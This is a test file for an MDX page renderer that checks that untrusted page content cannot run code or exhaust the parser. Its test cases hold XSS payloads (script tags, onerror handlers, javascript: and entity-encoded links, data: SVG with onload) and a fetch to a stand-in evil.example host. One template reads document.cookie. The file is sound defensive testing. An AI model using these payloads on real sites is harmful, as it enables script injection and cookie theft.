import { afterEach, beforeEach, describe, expect, it, vi, type MockInstance } from "vitest";
import { renderToString } from "react-dom/server";
import { resetDevWarnings } from "../../src/lib/dev-warning";
import { evaluatePage, PageError } from "../../src/mdx/index";
import { BLOCKED_ELEMENTS, PAGE_LIMITS } from "../../src/mdx/safety";
import { parseHtml } from "./html";
import { urlProblems } from "./hostile-urls";

let warn: MockInstance<typeof console.warn>;
beforeEach(() => {
  resetDevWarnings();
  warn = vi.spyOn(console, "warn").mockImplementation(() => {});
});
afterEach(() => warn.mockRestore());

const warnings = () => warn.mock.calls.map((call) => call.map(String).join(" ")).join("\n");

async function render(source: string) {
  const page = await evaluatePage(source);
  const html = renderToString(<page.Content />);
  return { html, document: parseHtml(html) };
}

/** What must never be in the output of any page, whatever it contains. */
function expectInert(html: string, document: Document) {
  const blocked = [...BLOCKED_ELEMENTS].filter((tag) => document.getElementsByTagName(tag).length > 0);
  expect(blocked).toEqual([]);
  const handlers = [...document.querySelectorAll("*")].flatMap((element) =>
    [...element.attributes].filter((attribute) => /^on/i.test(attribute.name)).map((attribute) => `${element.tagName} ${attribute.name}`),
  );
  expect(handlers).toEqual([]);
  expect(urlProblems(document, URL)).toEqual([]);
  expect(html).not.toMatch(/<script|javascript:|vbscript:|data:text/i);
}

async function pageError(source: string): Promise<PageError> {
  const error = await evaluatePage(source).then(
    () => undefined,
    (reason: unknown) => reason,
  );
  expect(error).toBeInstanceOf(PageError);
  return error as PageError;
}

describe("content that tries to run code is refused with a PageError naming the place", () => {
  it.each([
    ["an import", 'Intro\n\nimport fs from "node:fs"\n', 3, 1, /`import` or `export`/],
    ["an export", "Intro\n\nexport const secret = 1\n", 3, 1, /`import` or `export`/],
    ["a fetch call", 'Text {fetch("https://evil.example/steal")} more', 1, 7, /a function call/],
    ["process.exit()", "Line one\n\n{process.exit()}\n", 3, 2, /a function call/],
    ["a global read inside a style object", '<div style={{ a: globalThis.x }}>x</div>', 1, 18, /a property access/],
    ["a handler function", "<div onClick={() => alert(1)}>x</div>", 1, 15, /a function/],
    ["an identifier", "Hello {name}", 1, 8, /the name `name`/],
    ["arithmetic", "Sum {1 + 1}", 1, 6, /binary expression/],
    ["a template with a substitution", "{`${document.cookie}`}", 1, 2, /template with/],
    ["a regular expression", "{/x/}", 1, 2, /regular expression/],
    ["an object as text", '{{ a: 1 }}', 1, 2, /object expression/],
    ["an assignment", "{window.location = 'https://evil.example'}", 1, 2, /an assignment/],
    ["JSX inside an expression", '<Card title={<b onClick={alert}>x</b>} />', 1, 14, /JSX inside an expression/],
    ["a computed key", '<div style={{ [key]: 1 }}>x</div>', 1, 15, /property/],
    ["a spread attribute", '<div {...{ onClick: "x" }}>x</div>', 1, 1, /spread attributes/],
    ["a member tag", "<Foo.Bar />", 1, 1, /member tags/],
  ])("%s", async (_what, source, line, column, reason) => {
    const error = await pageError(source);
    expect(error.message).toMatch(reason);
    expect(error.line).toBe(line);
    expect(error.column).toBe(column);
    expect(error.message).toContain(`at line ${line}, column ${column}`);
  });

  it("counts lines from the top of the file, frontmatter included", async () => {
    const error = await pageError("---\ntitle: T\n---\n\nText\n\n{fetch()}\n");
    expect([error.line, error.column]).toEqual([7, 2]);
  });

  it("never runs the refused code", async () => {
    const probe = vi.fn();
    (globalThis as { __stakingUiProbe?: unknown }).__stakingUiProbe = probe;
    await pageError("{__stakingUiProbe()}");
    await pageError('<div title={__stakingUiProbe()} />');
    expect(probe).not.toHaveBeenCalled();
  });

  it("an unclosed <img> with an onerror handler is a syntax error, not an image", async () => {
    const error = await pageError('<img src="x" onerror="alert(1)">');
    expect(error.line).toBe(1);
  });
});

describe("literal data is allowed", () => {
  it("the seeds' style object, text, numbers and data props render", async () => {
    const { html, document } = await render(
      [
        '<em style={{ textTransform: "uppercase" }}>loud</em> {"text"} {42} {-1} {null} {/* a comment */}',
        "",
        '<TabbedSection listLabel="Tabs" tabs={[{ value: "a", label: "A", content: "Alpha" }, { value: "b", label: "B", content: "Beta" }]} />',
      ].join("\n"),
    );
    expect(document.querySelector("em")?.getAttribute("style")).toBe("text-transform:uppercase");
    expect(document.body.textContent).toMatch(/loud\s+text\s+42\s+-1/);
    expect(document.querySelectorAll('[role="tab"]')).toHaveLength(2);
    expectInert(html, document);
  });
});

describe("active elements and attributes never reach the output; the rest of the page does", () => {
  it.each([
    ["<script>", "<script>alert(1)</script>", /<script> at line 3, column 1 was removed/],
    ["<script> inside an SVG", '<svg><script href="x">alert(1)</script></svg>', /<script>/],
    ["<iframe>", '<iframe src="https://evil.example/" />', /<iframe>/],
    ["<iframe srcdoc>", '<iframe srcDoc="<script>alert(1)</script>" />', /<iframe>/],
    ["<object>", '<object data="https://evil.example/x.swf" />', /<object>/],
    ["<embed>", '<embed src="https://evil.example/x.swf" />', /<embed>/],
    ["<style>", "<style>{`body { display: none }`}</style>", /<style>/],
    ["<link>", '<link rel="stylesheet" href="https://evil.example/x.css" />', /<link>/],
    ["<meta refresh>", '<meta httpEquiv="refresh" content="0;url=javascript:alert(1)" />', /<meta>/],
    ["<base>", '<base href="https://evil.example/" />', /<base>/],
    ["<form>", '<form action="https://evil.example/"><button formAction="javascript:alert(1)">Go</button></form>', /<form>/],
    ["SVG <animate> setting href", '<svg><a><animate attributeName="href" values="javascript:alert(1)" /><text>x</text></a></svg>', /<animate>/],
    ["an onerror attribute", '<img src="/ok.png" alt="ok" onerror="alert(1)" />', /`onerror` attribute of <img>/],
    ["an onClick string", '<div onClick="alert(1)">click</div>', /`onClick` attribute of <div>/],
    ["an onClick string on a component", '<Card title="T" onClick="alert(1)" />', /`onClick` attribute of <Card>/],
    ["dangerouslySetInnerHTML", '<div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=alert(1)>" }} />', /dangerouslySetInnerHTML/],
    ["a javascript: Markdown link", "[click](javascript:alert(1))", /link to "javascript:alert\(1\)"/],
    ["a javascript: reference definition", "[click][r]\n\n[r]: javascript:alert(1)", /link to "javascript:alert\(1\)"/],
    ["a javascript: Markdown image", "![x](javascript:alert(1))", /image to "javascript:alert\(1\)"/],
    ["a JSX <a href=javascript:>", '<a href="javascript:alert(1)">click</a>', /`href` attribute of <a>/],
    ["an entity-encoded JSX href", '<a href="&#106;avascript:alert(1)">click</a>', /`href` attribute of <a>/],
    ["an expression href", '<a href={"javascript:alert(1)"}>click</a>', /`href` attribute of <a>/],
    ["a data: image", '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x" />', /`src` attribute of <img>/],
    ["an SVG xlinkHref", '<svg><a xlinkHref="javascript:alert(1)"><text>x</text></a></svg>', /`xlinkHref` attribute of <a>/],
    ["a ButtonLink to javascript:", '<ButtonLink href="javascript:alert(1)">Go</ButtonLink>', /`href` attribute of <ButtonLink>/],
    ["a srcset", '<img src="/ok.png" alt="ok" srcSet="javascript:alert(1) 2x" />', /`srcSet` attribute of <img>/],
    ["a style string", '<div style="color: red">x</div>', /`style` attribute of <div>/],
    ["CSS that loads a resource", '<div style={{ backgroundImage: "url(https://evil.example/track.png)" }}>x</div>', /CSS from page content/],
  ])("%s", async (_what, hostile, warning) => {
    const { html, document } = await render(`Before the trap.\n\n${hostile}\n\nAfter the trap.`);
    expectInert(html, document);
    expect(warnings()).toMatch(warning);
    expect(document.body.textContent).toContain("Before the trap.");
    expect(document.body.textContent).toContain("After the trap.");
  });

  it("a link with an unsafe URL keeps its text", async () => {
    const { document } = await render("[read this](javascript:alert(1)) and <a href=\"vbscript:x\">that</a>");
    expect(document.body.textContent).toContain("read this and that");
    expect(document.querySelector("a")).toBeNull();
  });

  it("a tag the library does not know renders as a placeholder and the rest still renders", async () => {
    const { html, document } = await render("Before.\n\n<FancyWidget mode=\"x\">Inner text</FancyWidget>\n\nAfter.");
    expect(document.querySelector('[data-slot="unknown-component"]')?.textContent).toContain("Inner text");
    expect(document.body.textContent).toContain("After.");
    expectInert(html, document);
  });
});

describe("pages that would exhaust the renderer are refused quickly", () => {
  it.each([
    ["2,000 nested tags on one line", "<div>".repeat(2000) + "x" + "</div>".repeat(2000), /tags more than 64 levels/],
    ["2,000 nested tags on their own lines", "<div>\n".repeat(2000) + "x\n" + "</div>\n".repeat(2000), /tags more than 64 levels/],
    ["2,000 nested block quotes", ">".repeat(2000) + " x", /block quotes/],
    ["200 nested list levels", Array.from({ length: 200 }, (_, i) => `${"  ".repeat(i)}- x`).join("\n"), /indented lists/],
    ["2,000 nested objects", "<div style={" + "{a:".repeat(2000) + "1" + "}".repeat(2000) + "} />", /braces/],
    ["10,000 nested emphasis markers", "*".repeat(10_000) + "x" + "*".repeat(10_000), /emphasis markers/],
  ])("%s", async (_what, source, reason) => {
    const started = performance.now();
    const error = await pageError(source);
    expect(error.message).toMatch(reason);
    expect(error.line).toBeGreaterThanOrEqual(1);
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  it("a 1 MB page is refused with the limit in the message", async () => {
    const page = "## Title\n\n" + "Staking pools let people with less ETH take part. [A link](/staking/).\n\n".repeat(15_000);
    expect(page.length).toBeGreaterThan(1_000_000);
    const started = performance.now();
    const error = await pageError(page);
    expect(error.message).toContain(`at most ${PAGE_LIMITS.maxLength}`);
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it("a long thematic break is still a rule, not emphasis", async () => {
    const { document } = await render(`Above\n\n${"*".repeat(200)}\n\nBelow`);
    expect(document.querySelector("hr")).not.toBeNull();
  });

  it("nesting at the limit and a page near the size limit still render", async () => {
    const nested = "<div>".repeat(PAGE_LIMITS.maxNesting) + "deep" + "</div>".repeat(PAGE_LIMITS.maxNesting);
    expect((await render(nested)).document.body.textContent).toContain("deep");
    const paragraph = "Text with **bold** and a [link](/staking/).\n\n";
    const long = paragraph.repeat(Math.floor((PAGE_LIMITS.maxLength * 0.9) / paragraph.length));
    const { document } = await render(long);
    expect(document.querySelectorAll("p").length).toBe(Math.floor((PAGE_LIMITS.maxLength * 0.9) / paragraph.length));
  });
});
